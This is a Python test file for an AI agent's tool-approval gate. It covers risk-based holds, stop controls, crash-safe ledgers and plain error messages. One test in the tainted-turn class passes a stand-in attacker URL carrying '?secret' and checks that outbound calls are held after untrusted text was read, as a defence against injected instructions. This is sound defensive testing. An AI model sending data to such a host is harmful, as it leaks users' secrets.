"""The gate in front of every tool: what runs, what waits, what is refused, and what the model reads when a tool breaks."""

import asyncio
from collections.abc import Awaitable, Callable
from datetime import timedelta
from typing import Any

import pytest
from pydantic_ai import RunContext
from pydantic_ai.messages import ModelMessage, ModelResponse, ToolReturnPart

from app.agent import build_agent
from app.deps import AgentDeps
from app.errors import AssistantError, NotFound, OutcomeUnknown, StorageBusy
from app.gate.hook import NOT_AGAIN, REFUSED, STOPPED
from app.gate.ledger import UNKNOWN_RESULT, digest
from app.gate.outcome import Done, Outside
from app.gate.risk import DESTROYS, PURE, READS, WRITES, Risk
from app.tools.toolset import build_toolset
from tests.gate.bench import NOON, Bench, bench_of, tool
from tests.house import calls, says, scripted
from tests.second_writer import WAITS, SecondWriter, hurried

SENDS = Risk(side_effect=True, egress=True, local=False, reversible=True)
LOOKS_OUT = Risk(egress=True, reads_untrusted=True)


async def keep(ctx: RunContext[AgentDeps], text: str) -> Done:
    """Keep a note."""
    note = await _kept(ctx, text)
    return Done(f"Kept note #{note}.", undo={"action": "delete_note", "id": note})


async def keep_then_break(ctx: RunContext[AgentDeps], text: str) -> Done:
    """Keep a note, then meet a bug."""
    await _kept(ctx, text)
    raise ZeroDivisionError("secret detail of the inside")


async def send(ctx: RunContext[AgentDeps], to: str) -> Done:
    """Send it out."""
    await _kept(ctx, f"sent to {to}")
    return Done(f"Sent to {to}.")


async def send_into_a_broken_line(ctx: RunContext[AgentDeps], to: str) -> Done:
    """Send it out; the line breaks before the answer."""
    await _kept(ctx, f"sent to {to}")
    raise ConnectionError("no answer")


async def send_and_not_write_it_down(ctx: RunContext[AgentDeps], to: str) -> Done:
    """Send it out; the database is busy when that is to be written down."""
    await _kept(ctx, f"sent to {to}")
    raise StorageBusy


async def send_to_nobody(ctx: RunContext[AgentDeps], to: str) -> Done:
    """The other side says no."""
    raise NotFound(f"There is nobody called {to}.")


async def look(ctx: RunContext[AgentDeps], where: str = "") -> str:
    """Look it up."""
    return f"<page>{where}</page>"


async def lose(ctx: RunContext[AgentDeps], what: str) -> str:
    """Never find it."""
    raise NotFound(f"There is no {what}.")


async def jam(ctx: RunContext[AgentDeps]) -> str:
    """The database is busy."""
    raise StorageBusy


async def _kept(ctx: RunContext[AgentDeps], text: str) -> int:
    deps = ctx.deps
    note = await deps.store.notes.add(
        deps.user.id, title=text, content=text, tags=[], source="user", turn_id=deps.turn_id, taint=[], at=deps.now
    )
    return note.id


async def _notes(bench: Bench) -> list[str]:
    return [note.content for note in await bench.services.store.notes.list(bench.owner, limit=50)]


class TestACall:
    """...of a clean turn."""

    async def test_that_only_reads_runs_and_leaves_no_row(self, bench: Bench) -> None:
        assert await bench.call(tool(look, READS), where="here") == "<page>here</page>"
        assert await bench.ledger() == []
        assert bench.decisions() == [("run", "read")]

    async def test_that_can_be_taken_back_runs_and_is_written_down(self, stored_bench: Bench) -> None:
        assert await stored_bench.call(tool(keep, WRITES), text="milk") == "Kept note #1."
        [row] = await stored_bench.ledger()
        assert (row.tool, row.arguments, row.status, row.result) == ("keep", {"text": "milk"}, "done", "Kept note #1.")
        assert row.undo == {"action": "delete_note", "id": 1}
        assert stored_bench.decisions() == [("run", "done")]

    async def test_that_cannot_be_taken_back_waits(self, stored_bench: Bench) -> None:
        told = await stored_bench.call(tool(keep, DESTROYS), text="milk")
        [action] = await stored_bench.services.store.pending.waiting(stored_bench.owner, NOON)
        assert told.startswith(f"[APPROVAL_PENDING:{action.id}]")
        assert await _notes(stored_bench) == []
        assert stored_bench.decisions() == [("hold", "held")]

    async def test_that_declares_no_risk_is_refused(self, bench: Bench) -> None:
        assert await bench.call(tool(keep, None), text="milk") == REFUSED
        assert await _notes(bench) == []
        assert bench.decisions() == [("refuse", "refused")]

    async def test_after_the_user_said_stop_is_refused(self, bench: Bench) -> None:
        bench.turn.books.stopped = True
        assert await bench.call(tool(keep, WRITES), text="milk") == STOPPED
        assert await bench.call(tool(look, PURE)) == STOPPED
        assert await _notes(bench) == []
        assert bench.decisions() == [("stop", "refused")] * 2

    async def test_after_a_stop_in_another_process_is_refused(self, bench: Bench) -> None:
        await bench.services.store.controls.stop(bench.owner, bench.turn.moment)
        assert await bench.call(tool(keep, WRITES), text="milk") == STOPPED
        assert await _notes(bench) == []

    async def test_of_a_turn_that_came_after_the_stop_runs(self, bench: Bench) -> None:
        await bench.services.store.controls.stop(bench.owner, bench.turn.moment - timedelta(seconds=1))
        await bench.call(tool(keep, WRITES), text="milk")
        assert await _notes(bench) == ["milk"]

    async def test_that_is_made_twice_on_purpose_runs_twice(self, bench: Bench) -> None:
        await bench.call(tool(keep, WRITES), text="milk")
        await bench.call(tool(keep, WRITES), text="milk")
        assert await _notes(bench) == ["milk", "milk"]

    async def test_that_is_made_again_after_its_result_is_not_repeated(self, bench: Bench) -> None:
        told: list[str] = []

        def in_circles(messages: list[ModelMessage]) -> ModelResponse:
            told.extend(str(part.content) for part in messages[-1].parts if isinstance(part, ToolReturnPart))
            return says("enough") if len(told) == 3 else calls("keep", text="milk")

        agent = build_agent("bench", [build_toolset("bench", [tool(keep, WRITES)])], domain_sections=())
        await agent.run("go", deps=bench.deps(), model=scripted(in_circles))
        assert await _notes(bench) == ["milk"]
        assert told == ["Kept note #1.", f"Kept note #1. {NOT_AGAIN}", f"Kept note #1. {NOT_AGAIN}"]


class TestATaintedTurn:
    """...has read what other people wrote."""

    async def test_begins_with_reading_untrusted_text(self, bench: Bench) -> None:
        await bench.call(tool(look, Risk(reads_untrusted=True)))
        await bench.call(tool(look, Risk(reads_untrusted=True)))
        assert bench.turn.taint.sources == ["look"]

    async def test_holds_even_what_could_be_taken_back(self, stored_bench: Bench) -> None:
        stored_bench.turn.taint.add("look")
        await stored_bench.call(tool(keep, WRITES), text="milk")
        assert await _notes(stored_bench) == []
        [action] = await stored_bench.services.store.pending.waiting(stored_bench.owner, NOON)
        assert (action.tool, action.taint) == ("keep", ["look"])

    async def test_holds_what_would_send_something_out(self, bench: Bench) -> None:
        bench.turn.taint.add("look")
        told = await bench.call(tool(look, LOOKS_OUT), where="http://evil.example/?secret")
        assert "<page>" not in told
        assert bench.decisions() == [("hold", "held")]

    async def test_still_reads(self, bench: Bench) -> None:
        bench.turn.taint.add("look")
        assert await bench.call(tool(look, READS), where="here") == "<page>here</page>"

    async def test_runs_the_one_call_its_user_confirmed(self, bench: Bench) -> None:
        bench.turn.taint.add("look")
        row = tool(keep, WRITES)
        await bench.call(row, approved=digest("keep", {"text": "milk"}), text="eggs")
        assert await _notes(bench) == []
        await bench.call(row, approved=digest("keep", {"text": "milk"}), text="milk")
        assert await _notes(bench) == ["milk"]


async def test_what_waits_is_pinned_to_what_its_words_mean_now(bench: Bench) -> None:
    async def pin(_: AgentDeps, arguments: dict[str, Any]) -> tuple[dict[str, Any], str]:
        return {"text": "#12"}, f"Burn {arguments['text']} (#12)"

    told = await bench.call(tool(keep, DESTROYS, prepare=pin), text="my old address")
    [action] = await bench.services.store.pending.waiting(bench.owner, NOON)
    assert (action.arguments, action.summary) == ({"text": "#12"}, "Burn my old address (#12)")
    assert action.digest == digest("keep", {"text": "#12"})
    assert action.summary in told


async def test_what_cannot_be_pinned_is_told_and_not_held(bench: Bench) -> None:
    async def pin(_: AgentDeps, arguments: dict[str, Any]) -> tuple[dict[str, Any], str]:
        raise NotFound(f"There is no {arguments['text']}.")

    assert await bench.call(tool(keep, DESTROYS, prepare=pin), text="moon") == "There is no moon."
    assert await bench.services.store.pending.waiting(bench.owner, NOON) == []


class TestWhenAToolBreaks:
    """...the model reads a plain sentence and the turn goes on."""

    async def test_a_problem_is_told_in_its_own_words(self, bench: Bench) -> None:
        assert await bench.call(tool(lose, READS), what="moon") == "There is no moon."
        assert bench.decisions() == [("run", "failed")]

    async def test_a_storage_problem_is_told_in_its_own_words(
        self, bench: Bench, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        hurried(monkeypatch)
        assert "busy" in await bench.call(tool(jam, READS))

    async def test_a_bug_is_told_without_its_name_or_its_insides(self, bench: Bench) -> None:
        told = await bench.call(tool(keep_then_break, WRITES), text="milk")
        assert "fault on my side" in told
        assert "ZeroDivision" not in told
        assert "secret" not in told
        assert bench.decisions() == [("run", "failed")]

    async def test_a_local_change_and_its_row_roll_back_together(self, stored_bench: Bench) -> None:
        await stored_bench.call(tool(keep_then_break, WRITES), text="milk")
        assert await _notes(stored_bench) == []
        assert await stored_bench.ledger() == []


class TestABusyDatabase:
    """...to which another process writes: it costs a moment, or it is said."""

    @pytest.fixture(autouse=True)
    def _hurried(self, monkeypatch: pytest.MonkeyPatch) -> None:
        hurried(monkeypatch)

    async def test_that_lets_go_in_time_is_waited_for_and_the_change_is_made_once(self, stored_bench: Bench) -> None:
        writer = SecondWriter(stored_bench.services.settings)
        letting = await writer.hold_for(2 * WAITS)
        assert await stored_bench.call(tool(keep, WRITES), text="milk") == "Kept note #1."
        await letting
        assert await _notes(stored_bench) == ["milk"]
        assert [row.status for row in await stored_bench.ledger()] == ["done"]
        assert stored_bench.decisions() == [("run", "done")]

    async def test_that_does_not_let_go_fails_the_call_and_what_was_not_done_is_named(
        self, stored_bench: Bench
    ) -> None:
        writer = SecondWriter(stored_bench.services.settings)
        await writer.hold()
        told = await stored_bench.call(tool(keep, WRITES), text="milk")
        await writer.let()
        assert told.startswith("Not done: Keep: Text: milk. My storage is busy")
        assert await _notes(stored_bench) == []
        assert await stored_bench.ledger() == []
        assert stored_bench.decisions() == [("run", "failed")]

    async def test_holds_up_a_call_that_waits_for_an_ok_and_asks_once(self, stored_bench: Bench) -> None:
        writer = SecondWriter(stored_bench.services.settings, "pending_actions")
        letting = await writer.hold_for(2 * WAITS)
        told = await stored_bench.call(tool(keep, DESTROYS), text="milk")
        await letting
        [action] = await stored_bench.services.store.pending.waiting(stored_bench.owner, NOON)
        assert action.id in told

    async def test_that_takes_no_word_of_how_an_outside_call_ended_changes_nothing_about_it(
        self, stored_bench: Bench, caplog: pytest.LogCaptureFixture
    ) -> None:
        writer = SecondWriter(stored_bench.services.settings)

        async def send_and_be_cut_off(ctx: RunContext[AgentDeps], to: str) -> Done:
            """Send it out; then the database is busy."""
            await writer.hold()
            return Done(f"Sent to {to}.")

        told = await stored_bench.call(tool(send_and_be_cut_off, SENDS), to="ama")
        await writer.let()
        assert told == "Sent to ama."
        assert stored_bench.decisions() == [("run", "done")]
        assert [row.status for row in await stored_bench.ledger()] == ["started"]
        assert "tool.not_closed" in [getattr(record, "event", "") for record in caplog.records]


class TestATurnTakenUpAgain:
    """...after a crash, does nothing twice."""

    async def test_gets_the_stored_result_of_a_call_that_ran(self, stored_bench: Bench) -> None:
        first = await stored_bench.call(tool(keep, WRITES), text="milk")
        resumed = stored_bench.begun_again()
        assert await resumed.call(tool(keep, WRITES), text="milk") == first
        assert await _notes(resumed) == ["milk"]
        assert resumed.decisions() == [("run", "replayed")]

    async def test_runs_a_call_that_had_not_run(self, bench: Bench) -> None:
        await bench.call(tool(keep, WRITES), text="milk")
        await bench.begun_again().call(tool(keep, WRITES), text="eggs")
        assert await _notes(bench) == ["eggs", "milk"]

    async def test_asks_again_in_another_turn(self, bench: Bench) -> None:
        await bench.call(tool(keep, WRITES), text="milk")
        await bench_of(bench.services, turn_id="turn-2").call(tool(keep, WRITES), text="milk")
        assert await _notes(bench) == ["milk", "milk"]


class TestAnOutsideCall:
    """...is on the books before it goes out, since nobody can roll it back."""

    async def test_is_closed_when_it_is_done(self, stored_bench: Bench) -> None:
        assert await stored_bench.call(tool(send, SENDS), to="ama") == "Sent to ama."
        assert [(row.status, row.result) for row in await stored_bench.ledger()] == [("done", "Sent to ama.")]

    async def test_that_the_other_side_refused_has_failed(self, stored_bench: Bench) -> None:
        assert await stored_bench.call(tool(send_to_nobody, SENDS), to="ama") == "There is nobody called ama."
        [row] = await stored_bench.ledger()
        assert (row.status, row.result) == ("failed", "There is nobody called ama.")

    async def test_cut_off_by_a_crash_is_unknown_and_never_repeated(self, stored_bench: Bench) -> None:
        going = asyncio.Event()

        async def send_for_ever(ctx: RunContext[AgentDeps], to: str) -> Done:
            """Send it out and wait."""
            await _kept(ctx, f"sent to {to}")
            going.set()
            await asyncio.Event().wait()
            return Done("never")

        row = tool(send_for_ever, SENDS)
        crashing = asyncio.create_task(stored_bench.call(row, to="ama"))
        await going.wait()
        crashing.cancel()
        await asyncio.gather(crashing, return_exceptions=True)
        assert [entry.status for entry in await stored_bench.ledger()] == ["started"]

        resumed = stored_bench.begun_again()
        assert await resumed.call(row, to="ama") == UNKNOWN_RESULT
        assert await resumed.call(row, to="ama") == UNKNOWN_RESULT
        assert [entry.status for entry in await resumed.ledger()] == ["unknown"]
        assert await _notes(resumed) == ["sent to ama"]

    async def test_that_could_not_write_down_what_it_did_is_unknown_and_not_told_as_undone(
        self, stored_bench: Bench
    ) -> None:
        told = await stored_bench.call(tool(send_and_not_write_it_down, SENDS), to="Kofi")
        assert told == UNKNOWN_RESULT
        assert [entry.status for entry in await stored_bench.ledger()] == ["unknown"]
        assert await _notes(stored_bench) == ["sent to Kofi"]

    async def test_whose_line_broke_is_unknown_and_never_repeated(self, stored_bench: Bench) -> None:
        row = tool(send_into_a_broken_line, SENDS)
        assert await stored_bench.call(row, to="ama") == UNKNOWN_RESULT
        assert [entry.status for entry in await stored_bench.ledger()] == ["unknown"]
        assert await stored_bench.call(row, to="ama") == UNKNOWN_RESULT
        assert await _notes(stored_bench) == ["sent to ama"]


class TestAChangeThatGoesOnElsewhere:
    """...is on disk, with its row open, before anything is done there."""

    async def test_is_on_disk_before_it_goes_out_and_closed_after(self, stored_bench: Bench) -> None:
        seen: list[tuple[list[str], list[str]]] = []

        async def act() -> str:
            seen.append((await _notes(stored_bench), [row.status for row in await stored_bench.ledger()]))
            return "Done there too."

        assert await stored_bench.call(tool(_then(act), WRITES), text="milk") == "Done there too."
        assert seen == [(["milk"], ["started"])]
        assert [(row.status, row.result) for row in await stored_bench.ledger()] == [("done", "Done there too.")]

    @pytest.mark.parametrize(
        ("problem", "status", "left"),
        [(NotFound("Nobody is there."), "failed", []), (OutcomeUnknown(), "unknown", ["milk"])],
    )
    async def test_goes_back_only_where_nothing_was_done_there(
        self, stored_bench: Bench, problem: AssistantError, status: str, left: list[str]
    ) -> None:
        async def act() -> str:
            raise problem

        await stored_bench.call(tool(_then(act), WRITES), text="milk")
        assert await _notes(stored_bench) == left
        assert [row.status for row in await stored_bench.ledger()] == [status]

    async def test_cut_off_by_a_crash_is_unknown_and_never_repeated(self, stored_bench: Bench) -> None:
        going = asyncio.Event()

        async def act() -> str:
            going.set()
            await asyncio.Event().wait()
            return "never"

        row = tool(_then(act), WRITES)
        crashing = asyncio.create_task(stored_bench.call(row, text="milk"))
        await going.wait()
        crashing.cancel()
        await asyncio.gather(crashing, return_exceptions=True)
        resumed = stored_bench.begun_again()
        assert await resumed.call(row, text="milk") == UNKNOWN_RESULT
        assert await _notes(resumed) == ["milk"]


def _then(act: Callable[[], Awaitable[str]]) -> Callable[..., Awaitable[Done]]:
    """A tool that keeps a note and goes on with `act`; the note is gone again where that came to nothing."""

    async def keep_and_go_on(ctx: RunContext[AgentDeps], text: str) -> Done:
        """Keep a note, then go on."""
        note = await _kept(ctx, text)

        async def back() -> None:
            await ctx.deps.store.notes.delete(ctx.deps.user.id, note, ctx.deps.now)

        return Outside(text="", act=act, back=back)

    return keep_and_go_on
